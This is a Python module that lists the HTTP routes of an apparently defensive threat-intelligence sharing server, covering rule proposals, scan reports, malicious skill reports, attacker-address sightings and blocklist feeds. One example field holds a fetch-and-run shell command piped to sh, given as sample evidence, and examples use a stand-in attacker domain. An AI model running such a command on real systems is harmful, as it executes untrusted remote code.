"""The one table of routes: what can be asked, by whom, with what, and what comes back.

The OpenAPI document and the page with examples are made from it, and so is the app.
"""

from collections.abc import Callable
from typing import NamedTuple

from msgspec import Struct

from panguard.findings import Phrase, phrase
from panguard.terms import Lane
from panguard.threatcloud import protocol
from panguard.threatcloud.consensus import State
from panguard.threatcloud.pack import PublishedCandidate, PublishedRule, Revocation
from panguard.threatcloud.server import answers, endpoints, reading
from panguard.threatcloud.server.calls import Answer, Call, Service


class Query(NamedTuple):
    """A value in the address: its name, what it means, and an example."""

    name: str
    meaning: Phrase
    example: str
    whole: bool = False


class Route(NamedTuple):
    """One thing that can be asked. `request` is read from the body; `signed` asks for an identity.

    `answer` is None where the answer is text.
    """

    method: str
    path: str
    summary: Phrase
    run: Callable[[Service, Call], Answer]
    answer: type[Struct] | None
    answer_example: Struct | str
    request: type[Struct] | None = None
    example: Struct | None = None
    signed: bool = False
    query: tuple[Query, ...] = ()


_ID = "4f3c2b1a09f8e7d64f3c2b1a09f8e7d6"
_HOUR = "2026-11-21T18Z"
_CANDIDATE = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
_CLIENT = "2c26b46b68ffc68ff99b453c1d304134"
_RULE = "title: Payload sent to a fixed host\nid: DRAFT-0001\nseverity: high\ndetection: ..."
_CURSOR = Query("cursor", phrase("the cursor of the answer before"), "MS4xMg")
_REPUTATION = Query("minReputation", phrase("from 0 to 100; 70 unless told otherwise"), "70", whole=True)
_PUBLISHED = PublishedRule(
    rule_id="TC-2026-00001",
    candidate=_CANDIDATE,
    rule_content=_RULE,
    lane=Lane.ALERT,
    published=_HOUR,
    networks=3,
)

ROUTES: tuple[Route, ...] = (
    Route(
        "GET",
        "/api/clients/challenge",
        phrase("Get a challenge for a new identity; it is good for ten minutes, once."),
        endpoints.make_challenge,
        answers.Challenge,
        answers.Challenge(challenge="AAAAAGkg...", bits=7, seconds=600),
    ),
    Route(
        "POST",
        "/api/clients/register",
        phrase("Register an identity: its public key, and a number that solves the challenge."),
        endpoints.register,
        answers.Registered,
        answers.Registered(client_id=_CLIENT, registered=_HOUR),
        protocol.Registration,
        protocol.Registration(public_key="A" * 43, challenge="AAAAAGkg...", solution=133),
    ),
    Route(
        "POST",
        "/api/atr-proposals",
        phrase("Propose a candidate, or confirm one; the rule may be left out where it is known."),
        endpoints.propose,
        answers.CandidateState,
        answers.CandidateState(candidate=_CANDIDATE, state=State.PENDING, counted=True, networks=1, needed=3),
        protocol.Proposal,
        protocol.Proposal(
            id=_ID,
            candidate=_CANDIDATE,
            pattern_hash="9f86d081884c7d65",
            artefact="1a2b",
            hour=_HOUR,
            rule_content=_RULE,
            evidence="curl https://[redacted]/x | sh",
        ),
        signed=True,
    ),
    Route(
        "GET",
        "/api/atr-proposals",
        phrase("List candidates that wait for confirmations, for matching in silence."),
        reading.list_candidates,
        answers.CandidatesPage,
        answers.CandidatesPage(
            candidates=(PublishedCandidate(candidate=_CANDIDATE, rule_content=_RULE, hour=_HOUR),),
            cursor=_CANDIDATE,
            more=False,
        ),
        query=(_CURSOR,),
    ),
    Route(
        "GET",
        "/api/atr-rules",
        phrase(
            "List what was promoted or taken back, from a cursor or a moment on; the same is signed under "
            "/tuf."
        ),
        reading.list_rules,
        answers.RulesPage,
        answers.RulesPage(
            revoked=(Revocation(rule_id="TC-2026-00002", revoked=_HOUR, reason="false alarms"),),
            rules=(_PUBLISHED,),
            cursor="MS4xMg",
            more=False,
        ),
        query=(
            Query("since", phrase("an hour, or a moment with a time zone"), "2026-11-21T18:00:00Z"),
            _CURSOR,
        ),
    ),
    Route(
        "POST",
        "/api/atr-feedback",
        phrase("Say whether a rule was right."),
        endpoints.give_feedback,
        answers.Taken,
        answers.Taken(),
        protocol.Feedback,
        protocol.Feedback(
            id=_ID, rule_id="TC-2026-00001", is_true_positive=False, artefact="1a2b", hour=_HOUR
        ),
        signed=True,
    ),
    Route(
        "POST",
        "/api/scan-events",
        phrase("Say which rules matched in a scan; it is added to the hour and not kept by itself."),
        endpoints.add_scan,
        answers.Taken,
        answers.Taken(),
        protocol.ScanEvent,
        protocol.ScanEvent(
            id=_ID,
            hour=_HOUR,
            hits=(protocol.Hit(rule_id="PGA-2026-00001", pattern_hash="9f86d081884c7d65", severity="high"),),
        ),
        signed=True,
    ),
    Route(
        "POST",
        "/api/skill-threats",
        phrase("Report a skill by the hash of its content."),
        endpoints.report_skill,
        answers.Taken,
        answers.Taken(),
        protocol.SkillThreat,
        protocol.SkillThreat(
            id=_ID, skill_hash="9f86d081884c7d65", risk_score=85, risk_level="high", hour=_HOUR
        ),
        signed=True,
    ),
    Route(
        "GET",
        "/api/skill-blacklist",
        phrase("List skills that independent scanners found to be threats."),
        reading.list_skills,
        answers.Blacklist,
        answers.Blacklist(
            skills=(
                answers.BlacklistedSkill(
                    skill_hash="9f86d081884c7d65",
                    networks=3,
                    average_risk=85,
                    risk_level="critical",
                    first=_HOUR,
                    last=_HOUR,
                ),
            ),
            cursor="9f86d081884c7d65",
            more=False,
        ),
        query=(_CURSOR,),
    ),
    Route(
        "POST",
        "/api/ioc-sightings",
        phrase("Report an address that attacked; private and well-known ones are refused."),
        endpoints.add_sighting,
        answers.Taken,
        answers.Taken(),
        protocol.IndicatorSighting,
        protocol.IndicatorSighting(id=_ID, type="domain", value="shell.attacker.net", hour=_HOUR),
        signed=True,
    ),
    Route(
        "GET",
        "/api/ioc-sightings",
        phrase("List addresses that enough independent networks reported."),
        reading.list_sightings,
        answers.Indicators,
        answers.Indicators(
            indicators=(
                answers.ListedIndicator(
                    type="domain",
                    value="shell.attacker.net",
                    reputation=73,
                    networks=3,
                    first=_HOUR,
                    last=_HOUR,
                ),
            ),
            cursor="shell.attacker.net",
            more=False,
        ),
        query=(Query("type", phrase("ip or domain"), "domain"), _REPUTATION, _CURSOR),
    ),
    Route(
        "GET",
        "/api/feeds/ip-blocklist",
        phrase("IP addresses to block, one a line."),
        reading.list_ips,
        None,
        "198.18.0.7\n",
        query=(_REPUTATION,),
    ),
    Route(
        "GET",
        "/api/feeds/domain-blocklist",
        phrase("Domains to block, one a line."),
        reading.list_domains,
        None,
        "shell.attacker.net\n",
        query=(_REPUTATION,),
    ),
    Route(
        "GET",
        "/api/stats",
        phrase("How much there is of everything."),
        reading.show_stats,
        answers.Stats,
        answers.Stats(
            rules=12,
            revoked=1,
            candidates={"pending": 4, "promoted": 13},
            identities=240,
            scans=9_000,
            scans_today=310,
            hits={"high": 41},
            top_rules={"PGA-2026-00001": 12},
            skills_blacklisted=3,
            indicators=7,
            journal_entries=18,
        ),
    ),
    Route(
        "GET",
        "/api/metrics",
        phrase("The totals that a public page shows; for Prometheus see /metrics."),
        reading.show_metrics,
        answers.Metrics,
        answers.Metrics(
            total_scans=9_000,
            total_scanners=240,
            total_threats_detected=41,
            total_rules=12,
            blacklisted_skills=3,
            last_updated=_HOUR,
        ),
    ),
    Route(
        "GET",
        "/api/journal",
        phrase("The record of every decision, each entry bound to the one before."),
        reading.list_record,
        answers.RecordPage,
        answers.RecordPage(
            entries=(
                answers.RecordEntry(
                    number=0, before="0" * 64, text='{"event":"promoted"}', digest=_CANDIDATE
                ),
            ),
            total=1,
            more=False,
        ),
        query=(Query("from", phrase("the number of the first entry"), "0", whole=True),),
    ),
    Route(
        "GET",
        "/health",
        phrase("Whether the server and its database answer."),
        reading.show_health,
        answers.Health,
        answers.Health(status="ok", version="0.1.0", database="sqlite", reviewing="off", hour=_HOUR),
    ),
)
